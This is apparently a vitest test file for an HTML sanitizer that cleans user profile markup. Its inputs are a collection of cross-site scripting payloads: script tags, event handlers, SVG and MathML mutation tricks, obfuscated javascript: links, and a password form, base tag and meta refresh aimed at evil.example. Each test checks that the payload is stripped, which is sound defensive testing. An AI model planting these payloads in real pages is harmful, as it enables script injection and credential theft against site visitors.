import { describe, expect, test } from 'vitest';
import { asParagraphs, profileOf, sanitizeProfile } from './markup.ts';

describe('hostile HTML', () => {
  test.each([
    ['a script', '<p>Hi</p><script>alert(1)</script>', '<p>Hi</p>'],
    ['a script in pieces', '<scr<script>x</script>ipt>alert(1)</script><p>a</p>', /^(?!.*<script)/s],
    ['a handler', '<p onclick="alert(1)" ONMOUSEOVER=alert(2)>Hi</p>', '<p>Hi</p>'],
    ['an image', '<img src=x onerror=alert(1)><p>a</p>', '<p>a</p>'],
    ['a style sheet', '<style>body{display:none}</style><p>a</p>', '<p>a</p>'],
    [
      'a layer over the page',
      '<div style="position:fixed;inset:0;z-index:9999" id="root" class="fixed">a</div>',
      '<div>a</div>',
    ],
    [
      'an svg',
      '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg><p>a</p>',
      '<p>a</p>',
    ],
    [
      'mathml',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><p>a</p>',
      /^(?!.*(img|onerror|math))/s,
    ],
    ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>a</p>', '<p>a</p>'],
    ['a form', '<form action="https://evil.example"><input name=p>Password</form><p>a</p>', '<p>a</p>'],
    ['a base', '<base href="https://evil.example/"><p>a</p>', '<p>a</p>'],
    ['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.example"><p>a</p>', '<p>a</p>'],
    [
      'noscript',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>a</p>',
      /^(?!.*onerror=)/s,
    ],
    ['a comment', '<!--[if IE]><script>alert(1)</script><![endif]--><p>a</p>', '<p>a</p>'],
    ['a template', '<template><p onclick=x>b</p></template><p>a</p>', '<p>a</p>'],
    ['an unclosed tag', '<p>a<script>alert(1)', '<p>a</p>'],
  ])('%s', (_, markup, expected) => {
    const clean = sanitizeProfile(markup);
    if (typeof expected === 'string') expect(clean).toBe(expected);
    else expect(clean).toMatch(expected);
    expect(sanitizeProfile(clean)).toBe(clean);
  });

  test.each([
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\nscript:alert(1)',
    '&#106;avascript:alert(1)',
    ' javascript:alert(1)',
    '\u0001javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    '//evil.example/x',
    'file:///etc/passwd',
  ])('a link to %j loses its address', (href) => {
    const clean = sanitizeProfile(`<a href="${href}">x</a>`);
    expect(clean).not.toMatch(/href/);
    expect(clean).toContain('>x</a>');
  });

  test('very deep nesting is cut', () => {
    const clean = sanitizeProfile(`${'<div>'.repeat(5_000)}a${'</div>'.repeat(5_000)}`);
    expect(clean.match(/<div>/g)?.length ?? 0).toBeLessThanOrEqual(40);
  });
});

test('links open in a new tab without referrer; structure stays', () => {
  expect(
    sanitizeProfile(
      '<html><head><title>x</title></head><body><h1>Dana</h1><ul><li>One</li></ul><a href="https://a.example/?b=1&c=2" target="_self" onclick="x">Source</a></body></html>',
    ),
  ).toBe(
    '<h2>Dana</h2><ul><li>One</li></ul><a href="https://a.example/?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">Source</a>',
  );
});

test('plain text becomes paragraphs, HTML stays', () => {
  expect(asParagraphs('One\ntwo\n\nThree')).toBe('<p>One<br>two</p>\n<p>Three</p>');
  expect(asParagraphs('<p>One</p>')).toBe('<p>One</p>');
  expect(asParagraphs('<p and no end')).toBe('<p><p and no end</p>');
});

test('a profile is the content of the code fence, made safe; null without text', () => {
  expect(profileOf('```html\n<p onclick="x">a</p>\n```')).toBe('<p>a</p>');
  expect(profileOf('<p> <br>&nbsp;</p><script>a</script>')).toBeNull();
});
